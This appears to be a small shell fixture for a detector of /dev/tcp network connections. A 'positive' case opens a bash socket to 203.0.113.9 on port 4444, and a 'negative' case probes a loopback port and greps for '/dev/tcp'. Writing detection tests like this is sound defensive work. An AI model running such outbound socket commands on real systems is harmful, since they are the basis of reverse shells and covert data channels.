# finds: dst_ip=203.0.113.9 dst_port=4444
# near miss: a shell looks whether a port of loopback is open; a word of such a line is searched for
positive() { bash -c 'exec 3<>/dev/tcp/203.0.113.9/4444; echo hi >&3'; }
negative() { bash -c ': </dev/tcp/127.0.0.1/80'; grep -rn '/dev/tcp' .; }
